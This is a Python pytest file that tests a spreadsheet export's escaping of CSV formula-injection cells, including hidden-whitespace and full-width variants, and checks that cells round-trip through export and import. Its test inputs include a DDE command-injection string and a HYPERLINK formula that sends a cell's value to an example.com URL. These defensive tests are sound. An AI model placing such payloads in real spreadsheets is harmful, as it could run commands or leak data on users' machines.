"""Texts in tables: no formula for any separator, and the same text when it is read back."""

import csv
import io
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from app.services.contacts.imports.cells import clean
from app.spreadsheets import mark_formulas, unmark_formulas, write_cell, write_rows

_ODD = st.text(st.sampled_from("=+-@';,|\t\n\r \u00a0\u200b\ufeff\v\f\uff1da1(!|x\""), max_size=14)


class TestMarkFormulas:
    @pytest.mark.parametrize(
        ("text", "marked"),
        [
            ("=1+1", "'=1+1"),
            ("+1-1", "'+1-1"),
            ("-2", "'-2"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("\t=1", "'\t'=1"),
            ("\r=1", "'\r'=1"),
            ("\tx", "'\tx"),
            (" =1", " '=1"),
            ("\u00a0=1", "\u00a0'=1"),
            ("\u200b=1", "\u200b'=1"),
            ("\ufeff=1", "\ufeff'=1"),
            ("\v=1", "\v'=1"),
            ("\f=1", "\f'=1"),
            ("\u3000@A1", "\u3000'@A1"),
            ("\uff1d1", "'\uff1d1"),
            ("\uff0b1", "'\uff0b1"),
            ("+12125550100=1", "'+12125550100=1"),
            ("x;=1+1", "x;'=1+1"),
            ("x; \u00a0=1+1", "x; \u00a0'=1+1"),
            ("x;\uff20SUM(1)", "x;'\uff20SUM(1)"),
            ("x\t=1+1", "x\t'=1+1"),
            ("x|=1+1", "x|'=1+1"),
            ('x"\n=1+1', "x\"\n'=1+1"),
            ("x\r-1", "x\r'-1"),
            ("x\u2028=1", "x\u2028'=1"),
            ("x =A1", "x '=A1"),
            ("x -cmd|' /C calc'!A0", "x '-cmd|' /C calc'!A0"),
            ('hi;=HYPERLINK("http://example.com/?x="&A1,"bill")', 'hi;\'=HYPERLINK("http://example.com/?x="&A1,"bill")'),
            ("'=1", "''=1"),
            ("'5", "''5"),
        ],
    )
    def test_formula_gets_apostrophe(self, text: str, marked: str) -> None:
        assert mark_formulas(text) == marked

    @pytest.mark.parametrize(
        "text",
        [
            "",
            "Ann",
            "a=b",
            "a-b; c",
            "x = 5",
            "3 - 2",
            "hi @ann",
            "a@example.com",
            "+12125550100",
            "20681",
            "it's",
            "\u6797 \u5c0f",
        ],
    )
    def test_plain_text_stays(self, text: str) -> None:
        assert mark_formulas(text) == text

    @given(_ODD)
    def test_unmark_returns_the_original(self, text: str) -> None:
        assert unmark_formulas(mark_formulas(text)) == text

    @given(_ODD)
    def test_no_split_begins_with_formula(self, text: str) -> None:
        if not re.fullmatch(r"\+[0-9]{1,15}", text):
            for cell in re.split(r"[;\t|\r\n\v\f]", mark_formulas(text)):
                assert not re.match(r"[\s\u200b\ufeff]*[-+=@\uff1d]", cell), cell

    @given(_ODD)
    def test_import_reads_what_export_wrote(self, text: str) -> None:
        (row,) = csv.reader(io.StringIO(write_rows([["x", write_cell(text)]]), newline=""))
        assert clean(row[1]) == "".join(c for c in text if c not in "\r\v\f\u200b\ufeff").strip()


def test_cell_values_are_written_as_text() -> None:
    assert [write_cell(value) for value in (True, False, None, 5, ["a", "=b"])] == ["true", "false", "", "5", "a '=b"]
